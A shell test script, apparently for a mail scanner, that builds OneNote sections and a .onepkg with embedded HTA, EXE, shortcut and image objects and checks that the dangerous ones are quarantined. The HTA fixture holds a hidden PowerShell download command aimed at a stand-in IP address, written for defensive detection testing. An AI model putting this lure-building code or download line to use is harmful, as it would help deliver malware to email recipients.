#!/bin/sh
# 2030-onenote: OneNote sections built in the test to the MS-ONESTORE
# layout (1024-byte header with the .one file format GUID, a property
# string naming the embedded file, FileDataStoreObject header, length,
# data, footer).  An .hta, an .exe or a .lnk on the page is found under
# its part path and quarantined, also inside a .onepkg (a cab); a page
# of photos is accepted (FILE_ONENOTE alone scores low); an object
# whose length runs past the end is OFFICE_MALFORMED and still read.
. "${LW_TOP:-.}/t/lib.sh"
BOUND=60
d=$(tmpdir 2030-onenote)
for tool in python3 gcab; do
	command -v $tool > /dev/null || bail "$tool missing: run contrib/install-deps"
done
mkdir -p "$d/policy.d"
cp "$LW_TOP/conf/policy.d/default.yaml" "$d/policy.d/"
printf 'policy_dir: policy.d\nquarantine_dir: quarantine\n' > "$d/lurewall.yaml"

# one OUT [NAME:KIND]...  (KIND: hta, exe, lnk, png; NAME "-" for none;
# a trailing "cut" makes the last object claim more than it holds)
one() {
	python3 - "$@" <<'PY'
import sys, struct, uuid, zlib
out, items = sys.argv[1], sys.argv[2:]
cut = items and items[-1] == "cut"
if cut:
    items = items[:-1]
def guid(s):
    return uuid.UUID(s).bytes_le
def png(w, h):
    raw = b"".join(b"\0" + bytes((x * 5 + y * 3) & 255 for x in range(w)) for y in range(h))
    def chunk(t, b):
        return struct.pack(">I", len(b)) + t + b + struct.pack(">I", zlib.crc32(t + b))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)) +
        chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
payload = {
    "hta": b'<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize">'
           b'<script language="VBScript">Set s = CreateObject("WScript.Shell")'
           b'\r\ns.Run "powershell -w hidden -c iwr http://198.51.100.7/a"'
           b'\r\nself.close</script></head></html>\r\n',
    "exe": b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200,
    "lnk": struct.pack("<I", 0x4c) + guid("00021401-0000-0000-c000-000000000046") + b"\x00" * 200,
}
hdr = bytearray(1024)
hdr[0:16] = guid("7b5c52e4-d88c-4da7-aeb1-5378d02996d3")
hdr[16:32] = uuid.uuid4().bytes_le
hdr[48:64] = guid("109add3f-911b-49f5-a5d0-1791edc8aed8")
body = bytes(hdr)
for n, it in enumerate(items):
    name, kind = it.split(":")
    data = payload[kind] if kind in payload else png(40 + n, 30)
    if name != "-":
        s = name.encode("utf-16-le")
        body += b"\x00" * 8 + struct.pack("<I", len(s)) + s + b"\x00" * 4
    claimed = len(data) + (4096 if cut and n == len(items) - 1 else 0)
    obj = guid("bde316e7-2665-4511-a4c4-8d4d0b7a9eac") + struct.pack("<QIQ", claimed, 0, 0) + data
    if not (cut and n == len(items) - 1):
        obj += b"\x00" * (-len(obj) % 8) + guid("71fba722-0f79-4a0b-bb13-899256426b24")
    body += obj
open(out, "wb").write(body)
PY
}

mail() {
	python3 - "$@" <<'PY'
import sys, base64
path, name = sys.argv[1], sys.argv[2]
b = base64.encodebytes(open(path, "rb").read()).decode()
sys.stdout.write("From: a@example.com\r\nTo: b@example.net\r\n"
    "Subject: notes\r\nMIME-Version: 1.0\r\n"
    "Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n"
    "--XX\r\nContent-Type: text/plain\r\n\r\nMeeting notes attached.\r\n"
    "--XX\r\nContent-Type: application/onenote; name=\"" + name +
    "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b + "--XX--\r\n")
PY
}

scan() {	# scan FILE NAME: "action score rule@part ..."
	mail "$1" "$2" > "$d/m.eml" || bail "cannot build a message"
	bounded "$LUREWALL" scan -c "$d/lurewall.yaml" --json "$d/m.eml" \
	    2> "$d/err" | python3 -c '
import json, sys
r = json.load(sys.stdin)
print(r["action"], r["score"], " ".join(f["rule"] + "@" + f["part"]
    for f in r["findings"]))'
}

one "$d/hta.one" "invoice.hta:hta" || bail "build hta.one"
out=$(scan "$d/hta.one" notes.one)
like "^quarantine .*FILE_SCRIPT@2/notes.one/embedded-1" "$out" \
    "HTA embedded in a page: its content is a script, quarantined"
like "FILE_SCRIPT@2/notes.one/invoice.hta" "$out" \
    "the stored name invoice.hta meets the name rules"

one "$d/exe.one" "-:png" "-:exe" || bail "build exe.one"
out=$(scan "$d/exe.one" notes.one)
like "^quarantine .*FILE_EXECUTABLE@2/notes.one/embedded-2" "$out" \
    "an unnamed executable beside a photo: FILE_EXECUTABLE"

one "$d/lnk.one" "scan.lnk:lnk" || bail "build lnk.one"
out=$(scan "$d/lnk.one" notes.one)
like "^quarantine .*FILE_SHORTCUT@2/notes.one" "$out" "a shortcut on a page: FILE_SHORTCUT"

one "$d/photos.one" "site-1.png:png" "site-2.png:png" "-:png" || bail "build photos.one"
out=$(scan "$d/photos.one" notes.one)
like "^accept 2 FILE_ONENOTE@2/notes.one$" "$out" \
    "a page of photos: accepted, FILE_ONENOTE alone"

( cd "$d" && cp hta.one Section1.one && gcab -c notes.onepkg Section1.one ) ||
    bail "gcab"
out=$(scan "$d/notes.onepkg" notes.onepkg)
like "^quarantine .*FILE_SCRIPT@2/notes.onepkg/Section1.one/embedded-1" "$out" \
    ".onepkg (a cab): its section is opened and the HTA found"

one "$d/cut.one" "-:png" "-:hta" cut || bail "build cut.one"
out=$(scan "$d/cut.one" notes.one)
like "OFFICE_MALFORMED@2/notes.one" "$out" "object past the end: OFFICE_MALFORMED"
like "^quarantine .*FILE_SCRIPT@2/notes.one/embedded-2" "$out" \
    "and what is there is still analysed"

rm -rf "$d"
done_testing
